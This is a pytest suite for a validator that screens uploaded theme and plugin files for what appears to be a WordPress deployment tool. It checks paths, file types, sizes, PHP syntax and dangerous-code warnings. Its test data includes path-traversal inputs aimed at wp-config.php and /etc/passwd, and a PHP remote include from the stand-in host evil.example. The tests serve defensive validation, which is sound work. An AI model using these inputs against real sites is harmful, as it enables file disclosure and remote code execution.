"""
Unit tests for submission validation.

Tests cover:
- Target type / slug checks
- Path safety (traversal, absolute, reserved directories)
- Extension allow-list
- Per-file and total size limits
- PHP syntax (brace heuristic and php -l)
- Dangerous pattern warnings (never blocking)
"""

import subprocess
from unittest.mock import MagicMock, patch

import pytest

from deployment.models import FileSpec
from deployment.validator import DeploymentValidator, format_size


def _php(path="inc/a.php", body="function a() { return 1; }"):
    return FileSpec(path=path, content=f"<?php\n{body}\n")


@pytest.mark.unit
class TestTargetChecks:
    """Target type and slug validation"""

    def test_valid_submission_has_no_issues(self, validator, make_settings, hero_banner_files):
        result = validator.validate(hero_banner_files, 'theme', 'storefront', make_settings())

        assert result.valid is True
        assert result.errors == []
        assert result.warnings == []

    def test_disallowed_target_type(self, validator, make_settings):
        settings = make_settings(allowed_targets=('theme',))

        result = validator.validate([_php()], 'plugin', 'shop-tools', settings)

        assert result.error_codes() == ['invalid_target_type']

    @pytest.mark.parametrize("slug", ["", "my theme", "../evil", "a/b", "caf\u00e9"])
    def test_invalid_slug(self, validator, make_settings, slug):
        result = validator.validate([_php()], 'theme', slug, make_settings())

        assert 'invalid_target_slug' in result.error_codes()

    def test_slug_is_case_insensitive(self, validator, make_settings):
        result = validator.validate([_php()], 'theme', 'Storefront_Child-2', make_settings())

        assert result.valid

    def test_no_files(self, validator, make_settings):
        result = validator.validate([], 'theme', 'storefront', make_settings())

        assert result.error_codes() == ['no_files']


@pytest.mark.unit
class TestPathChecks:
    """Per-file path validation"""

    @pytest.mark.parametrize("path", [
        "../functions.php",
        "inc/../../wp-config.php",
        "/etc/passwd.txt",
        "\\windows\\evil.php",
        "C:\\evil.php",
        "inc/a\0.php",
        "",
    ])
    def test_rejected_paths(self, validator, make_settings, path):
        result = validator.validate([FileSpec(path=path, content="x")], 'theme', 'storefront', make_settings())

        assert result.error_codes() == ['invalid_path']

    @pytest.mark.parametrize("path", ["wp-admin/x.php", "WP-Includes/x.php", "wp-content/uploads/x.css"])
    def test_reserved_directories(self, validator, path):
        assert 'core system directory' in validator.check_path(path)

    def test_invalid_path_skips_remaining_checks(self, validator, make_settings):
        """A bad path reports only invalid_path, even with a bad extension"""
        files = [FileSpec(path="../evil.exe", content="x")]

        result = validator.validate(files, 'theme', 'storefront', make_settings())

        assert result.error_codes() == ['invalid_path']

    def test_message_names_the_file(self, validator, make_settings):
        result = validator.validate([FileSpec(path="../x.php", content="")], 'theme', 'storefront', make_settings())

        assert result.errors[0].message.startswith("../x.php:")

    def test_every_file_is_reported(self, validator, make_settings):
        """Validation does not stop at the first bad file"""
        files = [
            FileSpec(path="../a.php", content=""),
            FileSpec(path="b.exe", content=""),
            FileSpec(path="c.css", content="ok"),
            FileSpec(path="d", content=""),
        ]

        result = validator.validate(files, 'theme', 'storefront', make_settings())

        assert result.error_codes() == ['invalid_path', 'invalid_file_type', 'invalid_file_type']

    @pytest.mark.parametrize("second", ["inc/a.css", "INC/A.css", "inc\\a.css"])
    def test_duplicate_path(self, validator, make_settings, second):
        files = [FileSpec(path="inc/a.css", content="a{}"), FileSpec(path=second, content="b{}")]

        result = validator.validate(files, 'theme', 'storefront', make_settings())

        assert result.error_codes() == ['invalid_path']
        assert result.errors[0].message == f"{second}: Duplicate file path."

    def test_lone_surrogate_is_reported(self, validator, make_settings):
        files = [
            FileSpec(path="inc/a.php", content="<?php echo '\ud800';"),
            FileSpec(path="b.exe", content=""),
        ]

        result = validator.validate(files, 'theme', 'storefront', make_settings())

        assert result.error_codes() == ['invalid_file_encoding', 'invalid_file_type']
        assert result.errors[0].message.startswith("inc/a.php:")


@pytest.mark.unit
class TestFileTypes:

    @pytest.mark.parametrize("path", ["a.php", "b.CSS", "fonts/x.woff2", "img/logo.svg", "templates/x.twig"])
    def test_allowed(self, validator, path):
        assert validator.check_file_type(path) is None

    @pytest.mark.parametrize("path", ["a.exe", "b.sh", "c.zip", "d.phar", ".htaccess.bak"])
    def test_not_allowed(self, validator, path):
        assert 'not allowed' in validator.check_file_type(path)

    def test_missing_extension(self, validator):
        assert validator.check_file_type("inc/Makefile") == 'File must have an extension.'


@pytest.mark.unit
class TestSizeLimits:

    def test_file_too_large(self, validator, make_settings):
        settings = make_settings(max_file_size=10)

        result = validator.validate([FileSpec(path="a.css", content="x" * 11)], 'theme', 'storefront', settings)

        assert result.error_codes() == ['file_too_large']

    def test_file_at_limit_is_accepted(self, validator, make_settings):
        settings = make_settings(max_file_size=10)

        result = validator.validate([FileSpec(path="a.css", content="x" * 10)], 'theme', 'storefront', settings)

        assert result.valid

    def test_size_is_measured_in_utf8_bytes(self, validator, make_settings):
        settings = make_settings(max_file_size=3)

        # Two characters, four bytes
        result = validator.validate([FileSpec(path="a.txt", content="\u00e9\u00e9")], 'theme', 'storefront', settings)

        assert result.error_codes() == ['file_too_large']

    def test_deployment_too_large(self, validator, make_settings):
        settings = make_settings(max_file_size=100, max_deployment_size=150)
        files = [FileSpec(path=f"f{i}.css", content="x" * 60) for i in range(3)]

        result = validator.validate(files, 'theme', 'storefront', settings)

        assert result.error_codes() == ['deployment_too_large']

    def test_total_includes_rejected_files(self, validator, make_settings):
        settings = make_settings(max_deployment_size=100)
        files = [
            FileSpec(path="../bad.css", content="x" * 80),
            FileSpec(path="ok.css", content="x" * 30),
        ]

        result = validator.validate(files, 'theme', 'storefront', settings)

        assert result.error_codes() == ['invalid_path', 'deployment_too_large']

    def test_format_size(self):
        assert format_size(512) == "512 B"
        assert format_size(2048) == "2.0 KB"
        assert format_size(5 * 1024 * 1024) == "5.0 MB"


@pytest.mark.unit
class TestPhpSyntax:

    def test_brace_mismatch(self, validator, make_settings):
        files = [_php(body="function a() { if (1) { return 1; }")]

        result = validator.validate(files, 'theme', 'storefront', make_settings())

        assert result.error_codes() == ['php_syntax_error']
        assert "2 opening, 1 closing" in result.errors[0].message

    def test_syntax_only_checked_for_php(self, validator, make_settings):
        files = [FileSpec(path="a.css", content=".a {")]

        result = validator.validate(files, 'theme', 'storefront', make_settings())

        assert result.valid

    def test_falls_back_when_php_missing(self, make_settings):
        validator = DeploymentValidator(php_binary='php')

        with patch('shutil.which', return_value=None), patch('subprocess.run') as mock_run:
            error = validator.check_php_syntax("<?php function a() {")

        mock_run.assert_not_called()
        assert error.startswith("Mismatched braces")

    def test_uses_php_lint_when_available(self):
        validator = DeploymentValidator(php_binary='php')
        completed = MagicMock(returncode=255, stdout="Parse error: syntax error in /tmp/x.php", stderr="")

        with patch('shutil.which', return_value='/usr/bin/php'), \
                patch('subprocess.run', return_value=completed) as mock_run:
            error = validator.check_php_syntax("<?php echo 'balanced' }{")

        args = mock_run.call_args[0][0]
        assert args[:2] == ['/usr/bin/php', '-l']
        assert error.startswith("PHP syntax error: Parse error")

    def test_php_lint_success(self):
        validator = DeploymentValidator(php_binary='php')
        completed = MagicMock(returncode=0, stdout="No syntax errors detected", stderr="")

        with patch('shutil.which', return_value='/usr/bin/php'), \
                patch('subprocess.run', return_value=completed):
            # Unbalanced on purpose: the linter result wins over the heuristic
            assert validator.check_php_syntax("<?php $s = '{';") is None

    def test_php_lint_timeout_falls_back(self):
        validator = DeploymentValidator(php_binary='php')

        with patch('shutil.which', return_value='/usr/bin/php'), \
                patch('subprocess.run', side_effect=subprocess.TimeoutExpired('php', 10)):
            assert validator.check_php_syntax("<?php function a() { }") is None


@pytest.mark.unit
class TestDangerousPatterns:

    @pytest.mark.parametrize("body,expected", [
        ("eval($code);", "eval()"),
        ("shell_exec('ls');", "shell_exec()"),
        ("exec('ls');", "exec()"),
        ("include 'https://evil.example/x.php';", "Remote file include"),
        ("$id = $_GET['id'];", "superglobal"),
    ])
    def test_pattern_is_a_warning(self, validator, make_settings, body, expected):
        result = validator.validate([_php(body=body)], 'theme', 'storefront', make_settings())

        assert result.valid is True
        assert result.warning_codes() == ['dangerous_pattern'] * len(result.warnings)
        assert any(expected in w.message for w in result.warnings)

    def test_non_php_files_are_not_scanned(self, validator, make_settings):
        files = [FileSpec(path="readme.md", content="Never call eval() in templates")]

        result = validator.validate(files, 'theme', 'storefront', make_settings())

        assert result.warnings == []

    def test_format_result(self, validator, make_settings):
        files = [FileSpec(path="../x.php", content=""), _php(body="eval($x);")]

        text = validator.format_result(validator.validate(files, 'theme', 'storefront', make_settings()))

        assert "ERRORS:" in text
        assert "[invalid_path] ../x.php" in text
        assert "WARNINGS:" in text
